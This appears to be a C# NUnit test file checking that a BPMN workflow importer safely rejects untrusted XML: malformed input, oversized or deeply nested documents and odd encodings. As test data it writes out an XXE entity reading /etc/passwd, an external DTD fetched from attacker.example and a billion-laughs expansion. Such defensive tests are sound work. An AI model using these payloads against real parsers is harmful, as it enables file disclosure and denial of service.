using System.Text;
using NUnit.Framework;
using Workflows.Engine.Parsing;

namespace Workflows.Engine.Tests.Parsing;

/// <summary>Untrusted XML: malformed input, DTDs (XXE, entity expansion), oversized documents, foreign encodings.</summary>
public class SecureLoadingTests
{
    [Test]
    public void ShouldReportMalformedXmlWithItsLine()
    {
        var problems = BpmnText.Import("<definitions>\n<process id=\"p\">\n</definitions>").Problems;
        Assert.That(problems.Single(), Has.Property(nameof(ValidationProblem.Line)).EqualTo(3)
            .And.Property(nameof(ValidationProblem.Message)).StartsWith("malformed XML: "));
    }

    [Test]
    public void ShouldReportEmptyInput() =>
        Assert.That(BpmnText.Messages(""), Has.One.StartsWith("malformed XML"));

    [Test]
    public void ShouldRefuseAnExternalEntity()
    {
        const string xml = """
            <?xml version="1.0"?>
            <!DOCTYPE definitions [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
            <definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="&secret;" /></definitions>
            """;
        Assert.That(BpmnText.Import(xml).Problems, Has.One.EqualTo(new ValidationProblem(2, null, "DTDs are not allowed")));
    }

    [Test]
    public void ShouldRefuseAnExternalDtd() =>
        Assert.That(BpmnText.Messages("<!DOCTYPE definitions SYSTEM \"http://attacker.example/x.dtd\"><definitions />"),
            Is.EqualTo(new[] { "DTDs are not allowed" }));

    [Test]
    public void ShouldRefuseTheBillionLaughs()
    {
        var entities = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (var level = 1; level <= 9; level++)
            entities.Append($"<!ENTITY lol{level} \"{string.Concat(Enumerable.Repeat($"&lol{level - 1};", 10))}\">");
        var xml = $"<?xml version=\"1.0\"?><!DOCTYPE lolz [{entities}]><definitions>&lol9;</definitions>";
        Assert.That(BpmnText.Messages(xml), Is.EqualTo(new[] { "DTDs are not allowed" }));
    }

    [Test]
    public void ShouldRefuseAStreamOverTheSizeLimit()
    {
        var xml = BpmnText.Process($"<documentation>{new string('x', 2000)}</documentation>");
        using var stream = new MemoryStream(Encoding.UTF8.GetBytes(xml));
        var result = BpmnImporter.Import(stream, new ImportOptions { MaxBytes = 1000 });
        Assert.That(result.Problems.Single().Message, Is.EqualTo("the document is larger than the limit of 1000 bytes"));
    }

    [Test]
    public void ShouldRefuseAStringOverTheSizeLimit() =>
        Assert.That(BpmnImporter.Import(new string(' ', 2000), new ImportOptions { MaxBytes = 1000 }).Problems.Single().Message,
            Does.StartWith("the document is larger than the limit"));

    [Test]
    public void ShouldRefuseAStreamOverTheDefaultLimit()
    {
        using var stream = new MemoryStream(new byte[ImportOptions.DefaultMaxBytes + 1]);
        Assert.That(BpmnImporter.Import(stream).Problems.Single().Message, Does.StartWith("the document is larger than the limit"));
    }

    [Test]
    public void ShouldRefuseElementsNestedDeeperThanTheLimit()
    {
        var xml = BpmnText.Process(NestedDocumentation(99));
        Assert.That(BpmnText.Import(xml).Problems.Single(), Is.EqualTo(new ValidationProblem(BpmnText.FirstBodyLine, null, "elements are nested deeper than the limit of 100")));
    }

    [Test]
    public void ShouldAcceptElementsNestedToTheLimit() =>
        Assert.That(BpmnText.Messages(BpmnText.Process(NestedDocumentation(98))), Has.None.Contains("nested deeper"));

    [Test]
    public void ShouldRefuseAHundredThousandNestedElementsInAFewSeconds()
    {
        var stopwatch = System.Diagnostics.Stopwatch.StartNew();
        var stream = new MemoryStream(Encoding.UTF8.GetBytes(BpmnText.Process(NestedDocumentation(100_000))));

        var problems = BpmnImporter.Import(stream).Problems;

        Assert.That(problems.Single().Message, Is.EqualTo("elements are nested deeper than the limit of 100"));
        Assert.That(stopwatch.Elapsed, Is.LessThan(TimeSpan.FromSeconds(5)));
    }

    /// <summary>Elements nested <paramref name="depth"/> deep inside the process, on one line: with definitions and process, depth + 2 levels.</summary>
    private static string NestedDocumentation(int depth) =>
        string.Concat(Enumerable.Repeat("<extensionElements>", depth)) + string.Concat(Enumerable.Repeat("</extensionElements>", depth));

    [Test]
    public void ShouldHonourTheDeclaredEncoding()
    {
        var xml = BpmnText.Around("<userTask id=\"x\" name=\"Prüfung\" />").Replace("UTF-8", "ISO-8859-1");
        using var stream = new MemoryStream(Encoding.Latin1.GetBytes(xml));
        var result = BpmnImporter.Import(stream);
        Assert.That(result.Document?.Processes[0].Node("x").Name, Is.EqualTo("Prüfung"));
    }

    [Test]
    public void ShouldReportARootThatIsNotBpmn() =>
        Assert.That(BpmnText.Messages("<html />"), Has.One.StartsWith("the root element is 'html'"));

    [Test]
    public void ShouldReportAnUnknownEncoding()
    {
        using var stream = new MemoryStream(Encoding.ASCII.GetBytes("<?xml version=\"1.0\" encoding=\"no-such-charset\"?><definitions/>"));
        Assert.That(BpmnImporter.Import(stream).Problems, Has.Count.EqualTo(1));
    }
}
